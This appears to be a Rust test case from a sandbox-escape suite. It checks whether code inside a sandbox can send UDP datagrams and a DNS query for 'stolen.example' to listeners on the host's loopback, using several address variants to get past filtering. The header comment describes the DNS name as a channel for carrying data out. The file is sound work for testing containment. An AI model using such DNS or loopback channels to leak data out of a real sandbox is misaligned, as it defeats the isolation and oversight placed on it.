//! Sends datagrams to the host: plain ones, and a question to a name server on its loopback, which could carry
//! anything out in the name that it asks for.

use std::fs;
use std::io;
use std::net::UdpSocket;
use std::time::Duration;

use model::Wall;

use super::support::judge_by_ear;
use crate::{Attack, Control};

pub const ATTACK: Attack = Attack {
    id: "kernel/host_datagram",
    wall: Wall::Network,
    about: "send a name query and plain datagrams to a UDP service on the host's loopback",
    flags: &[],
    prepare: |field| {
        for (name, address) in [("four", "127.0.0.1:0"), ("six", "[::1]:0")] {
            let socket = UdpSocket::bind(address)?;
            field.tell(name, socket.local_addr()?.port());
            let heard = field.outside.join("heard");
            std::thread::spawn(move || {
                let mut bytes = [0u8; 512];
                while let Ok((count, _)) = socket.recv_from(&mut bytes) {
                    if fs::write(&heard, &bytes[..count]).is_err() {
                        return;
                    }
                }
            });
        }
        Ok(())
    },
    inside: |inside| {
        let (four, six) = (inside.hint("four")?, inside.hint("six")?);
        let mut refused = Ok(());
        for (from, to) in [
            ("0.0.0.0:0", format!("127.0.0.1:{four}")),
            ("0.0.0.0:0", format!("127.255.255.255:{four}")),
            ("[::]:0", format!("[::ffff:127.0.0.1]:{four}")),
            ("[::]:0", format!("[::1]:{six}")),
        ] {
            if let Err(error) = ask(from, &to) {
                refused = Err(error);
            }
        }
        refused
    },
    judge: Some(judge_by_ear),
    control: Control::Bare,
};

/// A question for the address of `stolen.example`.
fn ask(from: &str, to: &str) -> io::Result<()> {
    let query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x07example\x00\x00\x01\x00\x01";
    let socket = UdpSocket::bind(from)?;
    socket.set_broadcast(true)?;
    socket.set_write_timeout(Some(Duration::from_secs(1)))?;
    socket.send_to(query, to).map(drop)
}
